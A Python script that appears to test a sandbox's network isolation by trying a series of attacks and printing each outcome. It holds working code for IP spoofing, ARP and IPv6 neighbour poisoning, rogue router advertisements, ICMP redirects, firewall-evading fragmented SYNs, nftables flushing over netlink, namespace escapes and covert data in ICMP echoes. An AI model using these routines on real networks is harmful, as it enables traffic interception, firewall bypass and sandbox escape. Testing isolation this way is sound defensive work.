"""Attacks on the network of a sandbox, one function each.

    python3 attacks.py NAME=ATTACK:ARGUMENT,... ...

tries each and prints a line `NAME OUTCOME`: `ok` when it did what it wanted, else the name of the error.
The same program runs inside a sandbox and, to show that it can succeed at all, outside.
"""
import ctypes
import errno
import os
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)

IP_FREEBIND, IP_TRANSPARENT = 15, 19
IPV6_FREEBIND, IPV6_TRANSPARENT, IPV6_RTHDR, IPV6_HOPOPTS, IPV6_DSTOPTS = 78, 75, 57, 54, 59
TCP_REPAIR, SO_MARK = 19, 36
NEWUSER, NEWNET = 0x10000000, 0x40000000


def family(address):
    return socket.AF_INET6 if ':' in address else socket.AF_INET


def call(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def tcp(address, port, prepare=lambda s: None):
    host = address.split('%')[0]
    s = socket.socket(family(host), socket.SOCK_STREAM)
    s.settimeout(2)
    prepare(s)
    target = socket.getaddrinfo(address, int(port), type=socket.SOCK_STREAM)[0][4]
    s.connect(target)
    return s


def ask(s, target):
    """Sends a datagram, and waits for what comes: an answer or an error of the network."""
    s.settimeout(0.7)
    s.sendto(b'ping', target)
    s.connect(target)
    s.send(b'ping')
    s.recv(100)


# --- Ways to connect ----------------------------------------------------------------------------

def connect(address, port):
    tcp(address, port).close()


def udp(address, port):
    s = socket.socket(family(address), socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.settimeout(0.7)
    s.connect(socket.getaddrinfo(address, int(port), type=socket.SOCK_DGRAM)[0][4])
    s.send(b'ping')
    s.recv(100)


def protocol(kind, number, address, port):
    """SCTP, DCCP, UDP-Lite and whatever else the kernel speaks."""
    s = socket.socket(family(address), int(kind), int(number))
    s.settimeout(0.7)
    s.connect((address, int(port)))
    if int(kind) == socket.SOCK_DGRAM:
        s.send(b'ping')
        s.recv(100)


def echo(address):
    """An ICMP echo request that carries something, by a socket that needs no privilege."""
    six = ':' in address
    s = socket.socket(family(address), socket.SOCK_DGRAM, 58 if six else 1)
    s.settimeout(0.7)
    s.connect((address, 0))
    s.send(struct.pack('!BBHHH', 128 if six else 8, 0, 0, 1, 1) + b'secret')
    s.recv(100)


def mapped(address, port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(('::ffff:' + address, int(port)))


def fastopen(address, port):
    """Data in the first packet of a connection."""
    s = socket.socket(family(address), socket.SOCK_STREAM)
    s.settimeout(2)
    s.sendto(b'secret', 0x20000000, (address, int(port)))


# --- Another source -----------------------------------------------------------------------------

def bind(address):
    socket.socket(family(address), socket.SOCK_DGRAM).bind((address, 0))


def freebind(source, address, port):
    s = socket.socket(family(source), socket.SOCK_DGRAM)
    level, option = (socket.IPPROTO_IPV6, IPV6_FREEBIND) if ':' in source else (socket.IPPROTO_IP, IP_FREEBIND)
    s.setsockopt(level, option, 1)
    s.bind((source, 0))
    s.sendto(b'spoofed', (address, int(port)))


def transparent(source, address, port):
    s = socket.socket(family(source), socket.SOCK_DGRAM)
    level, option = (socket.IPPROTO_IPV6, IPV6_TRANSPARENT) if ':' in source else (socket.IPPROTO_IP, IP_TRANSPARENT)
    s.setsockopt(level, option, 1)
    s.bind((source, 0))
    s.sendto(b'spoofed', (address, int(port)))


def pktinfo(source, address, port):
    """A source address of a single datagram."""
    s = socket.socket(family(source), socket.SOCK_DGRAM)
    packed = socket.inet_pton(family(source), source)
    if ':' in source:
        ancillary = (socket.IPPROTO_IPV6, 50, packed + struct.pack('@I', 0))
    else:
        ancillary = (socket.IPPROTO_IP, 8, struct.pack('@I', 0) + packed + packed)
    s.sendmsg([b'spoofed'], [ancillary], 0, (address, int(port)))


# --- Source routing -----------------------------------------------------------------------------

def lsrr(via, final):
    """Loose source and record route (RFC 791): the packet goes to `via`."""
    return struct.pack('!BBBB', 131, 7, 4, 0)[:3] + socket.inet_aton(via) + b'\0'


def srh(via):
    """A segment routing header (RFC 8754, type 4) by way of `via`."""
    return struct.pack('!BBBBBBH', 0, 4, 4, 1, 1, 0, 0) + b'\0' * 16 + socket.inet_pton(socket.AF_INET6, via)


def type2(via):
    """A type 2 routing header (RFC 6275)."""
    return struct.pack('!BBBBI', 0, 2, 2, 1, 0) + socket.inet_pton(socket.AF_INET6, via)


def source_route(kind, via, address, port):
    """Connects to what is accepted, and sends what follows by way of what is not."""
    s = tcp(address, port)
    if kind == 'lsrr':
        s.setsockopt(socket.IPPROTO_IP, 4, lsrr(via, address))
        # So that the kernel looks for the way anew.
        s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 8)
    else:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, {'srh': srh, 'type2': type2}[kind](via))
    s.send(b'secret')
    time.sleep(0.3)


def route_header_udp(kind, via, address, port):
    s = socket.socket(family(address), socket.SOCK_DGRAM)
    if kind == 'lsrr':
        s.setsockopt(socket.IPPROTO_IP, 4, lsrr(via, address))
    else:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, {'srh': srh, 'type2': type2}[kind](via))
    s.connect((address, int(port)))
    s.send(b'secret')
    s.settimeout(0.3)
    s.recv(100)


def extension(option):
    """Extension headers of one's own; they want CAP_NET_RAW."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, int(option), struct.pack('!BBBBI', 0, 0, 1, 4, 0))


# --- Sockets that nobody needs ------------------------------------------------------------------

def raw(address, number):
    socket.socket(family(address), socket.SOCK_RAW, int(number))


def packet(kind):
    socket.socket(socket.AF_PACKET, int(kind), socket.htons(3))


def any_socket(number, kind, proto='0'):
    call(libc.socket(int(number), int(kind), int(proto)))


def repair(address, port):
    """A connection that was never opened (TCP_REPAIR): no first packet would be judged."""
    s = socket.socket(family(address), socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)


def mark():
    socket.socket().setsockopt(socket.SOL_SOCKET, SO_MARK, 1)


# --- The kernel's tables ------------------------------------------------------------------------

def netlink(proto, message):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
    s.settimeout(2)
    s.send(message)
    answer = s.recv(65536)
    _, kind = struct.unpack_from('=IH', answer)
    if kind == 2:
        code = -struct.unpack_from('=i', answer, 16)[0]
        if code:
            raise OSError(code, os.strerror(code))


def message(kind, flags, body):
    return struct.pack('=IHHII', 16 + len(body), kind, flags | 5, 1, 0) + body


def attribute(kind, value):
    padded = value + b'\0' * (-len(value) % 4)
    return struct.pack('=HH', 4 + len(value), kind) + padded


def device_down():
    netlink(0, message(16, 0, struct.pack('=BxHiII', 0, 0, device(), 0, 1)))


def device():
    return socket.if_nametoindex('eth0')


def add_address(address):
    packed = socket.inet_pton(family(address), address)
    body = struct.pack('=BBBBi', family(address), len(packed) * 8, 0, 0, device())
    netlink(0, message(20, 0x600, body + attribute(2, packed) + attribute(1, packed)))


def add_route(destination):
    packed = socket.inet_pton(family(destination), destination)
    body = struct.pack('=BBBBBBBBI', family(destination), len(packed) * 8, 0, 0, 254, 4, 253, 1, 0)
    netlink(0, message(24, 0x600, body + attribute(1, packed) + attribute(4, struct.pack('=i', device()))))


def add_neighbour(address):
    packed = socket.inet_pton(family(address), address)
    body = struct.pack('=BxxxiHBB', family(address), device(), 0x80, 0, 0)
    netlink(0, message(28, 0x500, body + attribute(1, packed) + attribute(2, b'\2\0\0\0\0\7')))


def flush_rules():
    """What `nft flush ruleset` sends."""
    begin = struct.pack('=IHHII', 20, 0x10, 1, 1, 0) + struct.pack('!BBH', 0, 0, 10)
    delete = struct.pack('=IHHII', 20, 10 << 8 | 2, 5, 2, 0) + struct.pack('!BBH', 0, 0, 0)
    end = struct.pack('=IHHII', 20, 0x11, 1, 3, 0) + struct.pack('!BBH', 0, 0, 10)
    netlink(12, begin + delete + end)


def sysctl(key, value):
    with open('/proc/sys/net/' + key, 'w') as file:
        file.write(value)


# --- Namespaces ---------------------------------------------------------------------------------

def unshare(flags):
    pid = os.fork()
    if pid == 0:
        code = 0 if libc.unshare(int(flags)) == 0 else ctypes.get_errno()
        os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))


def setns(path):
    with open(path) as file:
        pid = os.fork()
        if pid == 0:
            code = 0 if libc.setns(file.fileno(), NEWNET) == 0 else ctypes.get_errno()
            os._exit(code)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code:
            raise OSError(code, os.strerror(code))


def abstract(name):
    """A socket without a file; its name belongs to a network namespace."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect('\0' + name)


# --- What only somebody with CAP_NET_RAW can do ---------------------------------------------------

def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def datagram(source, address, port):
    """An Ethernet payload: IP, UDP, from any source."""
    if ':' in source:
        a, b = (socket.inet_pton(socket.AF_INET6, x) for x in (source, address))
        body = struct.pack('!HHHH', 4000, int(port), 15, 0) + b'spoofed'
        sum6 = checksum(a + b + struct.pack('!II', len(body), 17) + body)
        body = body[:6] + struct.pack('!H', sum6) + body[8:]
        return 0x86dd, struct.pack('!IHBB', 0x60000000, len(body), 17, 64) + a + b + body
    a, b = socket.inet_aton(source), socket.inet_aton(address)
    body = struct.pack('!HHHH', 4000, int(port), 15, 0) + b'spoofed'
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0) + a + b
    head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
    return 0x0800, head + body


def frame(kind, payload, to=b'\2mc\0\0\1', source=b'\2mc\0\0\2'):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((os.environ.get('DEVICE', 'eth0'), 0))
    s.send(to + source + struct.pack('!H', kind) + payload)


def spoof(source, address, port):
    frame(*datagram(source, address, port))


def arp(address, target):
    """Says that `address` is here: an answer and a question, to the other end and to all."""
    me, a, t = b'\2mc\0\0\2', socket.inet_aton(address), socket.inet_aton(target)
    for to in (b'\2mc\0\0\1', b'\xff' * 6):
        for kind in (1, 2):
            frame(0x0806, struct.pack('!HHBBH', 1, 0x0800, 6, 4, kind) + me + a + b'\0' * 6 + t, to)
            frame(0x0806, struct.pack('!HHBBH', 1, 0x0800, 6, 4, kind) + me + a + b'\0' * 6 + a, to)


def icmp6(source, address, body, to):
    a, b = (socket.inet_pton(socket.AF_INET6, x) for x in (source, address))
    body = body[:2] + b'\0\0' + body[4:]
    body = body[:2] + struct.pack('!H', checksum(a + b + struct.pack('!II', len(body), 58) + body)) + body[4:]
    frame(0x86dd, struct.pack('!IHBB', 0x60000000, len(body), 58, 255) + a + b + body, to)


def advertise(source, address, to):
    """A neighbour advertisement that overrides: `address` is here."""
    packed = socket.inet_pton(socket.AF_INET6, address)
    body = struct.pack('!BBHI', 136, 0, 0, 0x60000000) + packed + b'\2\1\2mc\0\0\2'
    icmp6(source, to, body, b'\2mc\0\0\1')
    icmp6(source, 'ff02::1', body, b'\x33\x33\0\0\0\1')


def router(source, prefix):
    """A router advertisement: a default route, a prefix to take an address of."""
    packed = socket.inet_pton(socket.AF_INET6, prefix)
    body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0)
    body += struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 3600, 3600, 0) + packed
    body += b'\1\1\2mc\0\0\2'
    icmp6(source, 'ff02::1', body, b'\x33\x33\0\0\0\1')


def redirect6(source, destination, to):
    """A redirect: `destination` is reached by way of the sender."""
    me, d = (socket.inet_pton(socket.AF_INET6, x) for x in (source, destination))
    icmp6(source, to, struct.pack('!BBHI', 137, 0, 0, 0) + me + d, b'\2mc\0\0\1')


def redirect4(source, router, victim, destination):
    inner = datagram(victim, destination, 80)[1][:28]
    body = struct.pack('!BBH', 5, 1, 0) + socket.inet_aton(router) + inner
    body = body[:2] + struct.pack('!H', checksum(body)) + body[4:]
    a, b = socket.inet_aton(source), socket.inet_aton(victim)
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0) + a + b
    frame(0x0800, head[:10] + struct.pack('!H', checksum(head)) + head[12:] + body)


def fragments(kind, source, address, port):
    """A first SYN in pieces that no rule sees whole: `tiny`, `overlap`, or `later` alone; by a raw socket."""
    six = ':' in address
    a, b = (socket.inet_pton(family(address), x) for x in (source, address))
    def syn(port):
        segment = struct.pack('!HHIIBBHHH', 4001, port, 1, 0, 0x50, 2, 1000, 0, 0)
        pseudo = struct.pack('!II', 20, 6) if six else struct.pack('!BBH', 0, 6, 20)
        return segment[:16] + struct.pack('!H', checksum(a + b + pseudo + segment)) + segment[18:]
    segment, fake = syn(int(port)), syn(80)
    pieces = {
        'tiny': [(0, segment[:8], 1), (8, segment[8:], 0)],
        'overlap': [(0, fake[:16], 1), (0, segment[:16], 1), (16, segment[16:], 0)],
        'later': [(8, segment[8:], 0)],
    }[kind]
    s = socket.socket(family(address), socket.SOCK_RAW, 255)
    if six:
        s.setsockopt(socket.IPPROTO_IPV6, 36, 1)
    for offset, data, more in pieces:
        if six:
            head = struct.pack('!IHBB', 0x60000000, 8 + len(data), 44, 64) + a + b
            whole = head + struct.pack('!BBHI', 6, 0, offset | more, 77) + data
        else:
            head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(data), 77, offset // 8 | more << 13, 64, 6, 0)
            whole = head + a + b + data
        s.sendto(whole, (address, 0))


def behind(header, source, address, port):
    """A first SYN behind an extension header: `hop`, `dest` or `route`; by a raw socket."""
    a, b = (socket.inet_pton(socket.AF_INET6, x) for x in (source, address))
    segment = struct.pack('!HHIIBBHHH', 4002, int(port), 1, 0, 0x50, 2, 1000, 0, 0)
    segment = segment[:16] + struct.pack('!H', checksum(a + b + struct.pack('!II', 20, 6) + segment)) + segment[18:]
    if header == 'route':
        number, body = 43, struct.pack('!BBBBI', 6, 2, 4, 0, 0) + b
    else:
        number, body = {'hop': 0, 'dest': 60}[header], struct.pack('!BBBBI', 6, 0, 1, 4, 0)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 255)
    s.setsockopt(socket.IPPROTO_IPV6, 36, 1)
    head = struct.pack('!IHBB', 0x60000000, len(body) + len(segment), number, 64)
    s.sendto(head + a + b + body + segment, (address, 0))


def main():
    for word in sys.argv[1:]:
        name, _, rest = word.partition('=')
        attack, _, arguments = rest.partition('@')
        try:
            globals()[attack](*(arguments.split(',') if arguments else []))
            outcome = 'ok'
        except (TimeoutError, socket.timeout):
            outcome = 'TIMEOUT'
        except OSError as error:
            outcome = errno.errorcode.get(error.errno, str(error))
        print(name, outcome, flush=True)


main()
